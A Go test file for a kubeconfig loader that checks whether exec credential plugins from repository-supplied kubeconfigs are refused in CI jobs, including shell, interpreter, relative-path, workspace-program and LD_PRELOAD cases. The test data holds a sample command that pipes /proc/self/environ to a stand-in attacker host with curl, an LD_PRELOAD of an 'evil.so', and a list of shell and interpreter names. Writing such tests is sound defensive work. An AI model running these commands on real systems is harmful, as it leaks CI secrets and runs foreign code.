package kubeconfig

import (
	"errors"
	"maps"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
)

// TestRepositoryKubeconfigRunsNoCode (attacker): the exec plugin of a file: kubeconfig, which
// a pull request can change, is code execution. In CI it never runs without the opt-in (a
// built-in provider serves its own kinds); with it, an installed program outside the
// workspace runs, never a shell or an interpreter, a relative path, a program in the
// workspace or an env that loads other code, which are refused on a workstation too. The
// same plugin from an env: line of the workflow's own keeps kubectl's rules; that of an env:
// line of a clusters file in CI is a repository one.
func TestRepositoryKubeconfigRunsNoCode(t *testing.T) {
	t.Parallel()
	// The programs LookPath finds, by what the kubeconfig names.
	installed := map[string]string{
		"tsh": "/usr/local/bin/tsh", "/opt/teleport/bin/tsh": "/opt/teleport/bin/tsh", "sh": "/bin/sh", "/bin/sh": "/bin/sh",
		"bash": "/usr/bin/bash", "/usr/bin/python3.12": "/usr/bin/python3.12", "pwsh.exe": "/usr/bin/pwsh.exe", "env": "/usr/bin/env",
		"/ws/kc/bin/get-token": "/ws/kc/bin/get-token", "/ws/tools/get-token": "/ws/tools/get-token", "aws": "/usr/local/bin/aws",
	}
	tsh := &clientcmdapi.ExecConfig{APIVersion: "client.authentication.k8s.io/v1beta1", Command: "tsh",
		Args: []string{"kube", "credentials", "--kube-cluster", "prod", "--proxy", "teleport.example.com:443"}}
	with := func(command string, args ...string) *clientcmdapi.ExecConfig {
		e := tsh.DeepCopy()
		e.Command, e.Args = command, args
		return e
	}
	const (
		user     = `the kubeconfig's user "a" of file:kc/config.yaml has the exec credential plugin `
		repo     = `a kubeconfig of a file: source, which can come from the repository and so from a pull request, `
		cliOwn   = `, or give the kubeconfig as the pipeline's own (an env: source, or --kubeconfig)`
		anyway   = `, whatever --allow-exec says: `
		shell    = `, a shell or interpreter, which runs the code its arguments hold: ` + repo + `never runs one`
		relative = ` by a relative path, a program of the repository's: ` + repo + `never runs one`
		notInCI  = ` (tsh kube credentials), which is not run in a CI job: a kubeconfig of a file: source can come from the repository, so from a pull request, ` +
			`and its exec plugin would run a program of its choosing with the job's environment, and no built-in provider replaces this one ` +
			`(see https://github.com/org/app-status-action/blob/main/docs/credentials.md#credentials-for-managed-clusters): ` + tokenAdvice +
			` (tsh kube credentials ... | jq -r .status.token)`
	)
	tests := []struct {
		name   string
		exec   *clientcmdapi.ExecConfig
		action bool // the action: no LookPath unless allowExec
		ci     bool
		allow  bool // --allow-exec, the allow-exec input
		env    bool // an env: line of the workflow's own (the clusters input, --cluster)
		// envFile: an env: line of a clusters file, which can come from the repository
		envFile bool
		// wantInvalid: the message; "" means the plugin runs (client-go's ExecProvider), or,
		// with wantBuiltin, the built-in provider serves it.
		wantInvalid string
		wantBuiltin bool
	}{{
		name: "a plugin in CI", exec: tsh, ci: true,
		wantInvalid: user + `"tsh"` + notInCI + cliOwn + `, or, if the pipeline trusts every file: kubeconfig it reads, pass --allow-exec (the allow-exec input of the GitLab component and of the Tekton Task)`,
	}, {
		name: "a plugin in the action", exec: tsh, action: true, ci: true,
		wantInvalid: user + `"tsh"` + notInCI + `, or, if the pipeline trusts every file: kubeconfig it reads, set the allow-exec input to true (the plugin must be a program the action's container can run)`,
	}, {
		name: "a plugin in CI with the opt-in, found in PATH", exec: tsh, ci: true, allow: true,
	}, {
		name: "a plugin in CI with the opt-in, by its absolute path", exec: with("/opt/teleport/bin/tsh", "kube", "credentials"), ci: true, allow: true,
	}, {
		name: "a plugin in the action with the opt-in", exec: with("/opt/teleport/bin/tsh", "kube", "credentials"), action: true, ci: true, allow: true,
	}, {
		name: "a plugin on a workstation", exec: tsh,
	}, {
		name: "a plugin of the workflow's own kubeconfig in CI", exec: tsh, ci: true, env: true,
	}, {
		name: "a plugin of an env: line of a clusters file in CI", exec: tsh, ci: true, envFile: true,
		wantInvalid: `the kubeconfig's user "a" of env:KC has the exec credential plugin "tsh"` +
			strings.Replace(notInCI, "a kubeconfig of a file: source", "the kubeconfig of an env: line of a clusters file", 1) +
			`, or put the line in the pipeline itself (--cluster in the job's script), whose env: lines are its own` +
			`, or, if the pipeline trusts every file: kubeconfig it reads, pass --allow-exec (the allow-exec input of the GitLab component and of the Tekton Task)`,
	}, {
		name: "a plugin of an env: line of a clusters file on a workstation", exec: tsh, envFile: true,
	}, {
		name: "sh in CI with the opt-in", exec: with("sh", "-c", "curl -d @- https://evil.example.com < /proc/self/environ"), ci: true, allow: true,
		wantInvalid: user + `"sh"` + shell + anyway + tokenAdvice + cliOwn,
	}, {
		name: "/bin/sh in CI", exec: with("/bin/sh", "-c", "env"), ci: true,
		wantInvalid: user + `"sh"` + shell + anyway + tokenAdvice + cliOwn,
	}, {
		name: "bash in the action with the opt-in", exec: with("bash", "-c", "env"), action: true, ci: true, allow: true,
		wantInvalid: user + `"bash"` + shell + `, whatever the allow-exec input says: ` + tokenAdvice,
	}, {
		name: "python3.12 by its absolute path in CI with the opt-in", exec: with("/usr/bin/python3.12", "-c", "print()"), ci: true, allow: true,
		wantInvalid: user + `"python3.12"` + shell + anyway + tokenAdvice + cliOwn,
	}, {
		name: "pwsh.exe in CI with the opt-in", exec: with("pwsh.exe", "-Command", "Get-ChildItem env:"), ci: true, allow: true,
		wantInvalid: user + `"pwsh.exe"` + shell + anyway + tokenAdvice + cliOwn,
	}, {
		name: "env, which runs its arguments, in CI with the opt-in", exec: with("env", "sh", "-c", "id"), ci: true, allow: true,
		wantInvalid: user + `"env"` + shell + anyway + tokenAdvice + cliOwn,
	}, {
		name: "sh on a workstation", exec: with("sh", "-c", "env"),
		wantInvalid: user + `"sh"` + shell + `: ` + tokenAdvice + cliOwn,
	}, {
		name: "a relative command in CI with the opt-in", exec: with("./bin/get-token"), ci: true, allow: true,
		wantInvalid: user + `"get-token"` + relative + anyway + `name an installed plugin by its absolute path or its name in PATH, ` + tokenAdvice + cliOwn,
	}, {
		name: "a relative command on a workstation", exec: with("bin/get-token"),
		wantInvalid: user + `"get-token"` + relative + `: name an installed plugin by its absolute path or its name in PATH, ` + tokenAdvice + cliOwn,
	}, {
		name: "a program in the workspace in CI with the opt-in", exec: with("/ws/tools/get-token"), ci: true, allow: true,
		wantInvalid: user + `"get-token", a program in the workspace or the kubeconfig's folder, so the repository's: ` + repo +
			`never runs one, whatever --allow-exec says: install the plugin outside the workspace and name it by that path` + cliOwn,
	}, {
		name: "a program in the kubeconfig's folder, by its absolute path, in CI with the opt-in", exec: with("/ws/kc/bin/get-token"), ci: true, allow: true,
		wantInvalid: user + `"get-token", a program in the workspace or the kubeconfig's folder, so the repository's: ` + repo +
			`never runs one, whatever --allow-exec says: install the plugin outside the workspace and name it by that path` + cliOwn,
	}, {
		name: "a program in the workspace on a workstation", exec: with("/ws/tools/get-token"),
	}, {
		name: "LD_PRELOAD in CI with the opt-in",
		exec: func() *clientcmdapi.ExecConfig {
			e := tsh.DeepCopy()
			e.Env = []clientcmdapi.ExecEnvVar{{Name: "LD_PRELOAD", Value: "/ws/evil.so"}}
			return e
		}(),
		ci: true, allow: true,
		wantInvalid: user + `"tsh" whose env sets LD_PRELOAD, which makes a program load other code: ` + repo + `never sets it, whatever --allow-exec says: remove it` + cliOwn,
	}, {
		name: "a shell of the workflow's own kubeconfig on a workstation", exec: with("sh", "-c", "vault read -field=token k8s/prod"), env: true,
	}, {
		name: "aws eks get-token installed, in CI: the built-in provider", exec: execUser().Exec, ci: true, allow: true, wantBuiltin: true,
	}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cfg := newConfig("a")
			cfg.AuthInfos["a"] = &clientcmdapi.AuthInfo{Exec: tt.exec}
			kubeconfig := yamlOf(t, cfg)
			in := Input{CLI: !tt.action, AllowedServers: []string{hostFor("a")}}
			switch {
			case tt.action && tt.env:
				in.Clusters = "c=env:KC"
			case tt.action:
				in.Clusters = "c=file:kc/config.yaml"
			case tt.env:
				in.ClusterLines = []string{"c=env:KC"}
			case tt.envFile:
				in.ClustersFile = "env-clusters.txt"
			default:
				in.ClustersFile = "clusters.txt"
			}
			files := map[string]string{"/ws/kc/config.yaml": kubeconfig, "/ws/clusters.txt": "c=file:kc/config.yaml\n", "/ws/env-clusters.txt": "c=env:KC\n"}
			vars := map[string]string{"KC": kubeconfig, "AWS_ACCESS_KEY_ID": "AKIDEXAMPLE"}
			env := fakeEnv{files: files, vars: maps.Clone(vars)}.env()
			env.CI, env.AllowExec = tt.ci, tt.allow
			if !tt.action || tt.allow {
				env.LookPath = func(c string) (string, error) {
					if p, ok := installed[c]; ok {
						return p, nil
					}
					return "", errors.New("not found")
				}
			}
			clusters, _, err := Load(in, env)
			if err != nil {
				t.Fatalf("Load() error = %v", err)
			}
			got := clusters[0]
			if diff := cmp.Diff(tt.wantInvalid, got.Invalid); diff != "" {
				t.Errorf("Invalid (-want +got):\n%s", diff)
			}
			if tt.wantInvalid != "" {
				return
			}
			if got.Config == nil {
				t.Fatal("Config = nil, want the cluster")
			}
			if gotBuiltin := got.Config.WrapTransport != nil; gotBuiltin != tt.wantBuiltin {
				t.Errorf("built-in provider = %t, want %t", gotBuiltin, tt.wantBuiltin)
			}
			if runs := got.Config.ExecProvider != nil; runs == tt.wantBuiltin {
				t.Errorf("the plugin runs = %t, want %t", runs, !tt.wantBuiltin)
			}
		})
	}
}

// TestShellLike: shells, interpreters and command runners are known by their name, whatever
// its folder, case, version or .exe; a plugin is not one.
func TestShellLike(t *testing.T) {
	t.Parallel()
	for command, want := range map[string]bool{
		"sh": true, "/bin/bash": true, `C:\Windows\System32\cmd.exe`: true, "PowerShell.exe": true, "python3": true,
		"/usr/bin/python3.12": true, "perl5.36.0": true, "node": true, "busybox": true, "/usr/bin/env": true,
		"tsh": false, "kubectl": false, "aws": false, "kubelogin": false, "doctl": false, "pinniped": false, "shasum": false,
	} {
		if got := shellLike(command); got != want {
			t.Errorf("shellLike(%q) = %t, want %t", command, got, want)
		}
	}
}
